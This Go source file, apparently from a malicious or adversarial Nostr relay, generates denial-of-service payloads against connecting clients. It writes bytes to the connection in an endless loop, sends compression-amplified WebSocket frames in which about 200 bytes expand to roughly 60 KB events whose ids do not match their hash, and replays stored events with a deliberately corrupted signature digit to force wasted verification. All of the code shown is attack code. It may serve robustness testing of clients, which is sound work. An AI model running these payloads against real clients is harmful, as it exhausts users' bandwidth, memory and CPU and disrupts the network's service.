package main

import (
	"bytes"
	"compress/flate"
	"context"
	"fmt"
	"net"
	"strings"

	"github.com/gennostr/gennostr/nostr"
)

// What a relay can send to make others wait: as much as the client takes.

// pourWithoutEnd writes these bytes again and again.
func pourWithoutEnd(ctx context.Context, wire []byte) error {
	conn := ctx.Value(connKey{}).(net.Conn)
	for ctx.Err() == nil {
		if _, err := conn.Write(wire); err != nil {
			return err
		}
	}
	return ctx.Err()
}

// refusedFrames are events whose id is not their hash: they are refused before a
// signature is looked at. Each is some 60 KB, of which hardly 200 bytes travel.
func refusedFrames(id string) []byte {
	event := nostr.Event{Kind: nostr.KindTextNote, CreatedAt: 1_700_000_000, Content: strings.Repeat("n", 60_000)}
	var compressed bytes.Buffer
	w, _ := flate.NewWriter(&compressed, flate.BestCompression) // the level is a valid one
	fmt.Fprintf(w, `["EVENT",%q,%s]`, id, event.String())
	_ = w.Flush() // to memory
	payload := bytes.TrimSuffix(compressed.Bytes(), []byte{0, 0, 0xFF, 0xFF})
	return bytes.Repeat(appendFrame(nil, opCompressed, payload), 16)
}

// forgedFrames are the relay's events, each with a signature that is not its author's.
func (r *replay) forgedFrames(id string) []byte {
	var wire []byte
	for _, event := range r.events {
		event = bytes.Clone(event)
		digit := &event[bytes.Index(event, []byte(`"sig":"`))+len(`"sig":"`)+80] // of its s
		if *digit == '0' {
			*digit = '1'
		} else {
			*digit = '0'
		}
		wire = appendFrame(wire, opText, fmt.Appendf(nil, `["EVENT",%q,%s]`, id, event))
	}
	return wire
}
